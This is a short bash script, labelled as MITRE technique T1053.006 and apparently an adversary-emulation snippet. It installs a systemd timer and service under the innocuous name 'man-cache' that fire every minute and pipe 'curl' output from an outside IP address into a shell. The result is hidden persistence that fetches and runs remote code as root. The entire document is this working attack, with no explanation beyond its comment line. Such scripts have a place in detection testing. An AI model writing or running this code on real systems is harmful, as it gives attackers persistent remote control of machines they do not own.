#!/bin/bash
# T1053.006: A timer starts a hidden program each minute.
printf '[Timer]\nOnCalendar=*:0/1\n[Install]\nWantedBy=timers.target\n' >/etc/systemd/system/man-cache.timer; printf '[Service]\nExecStart=/bin/sh -c "curl -s 44.128.66.66|sh"\n' >/etc/systemd/system/man-cache.service
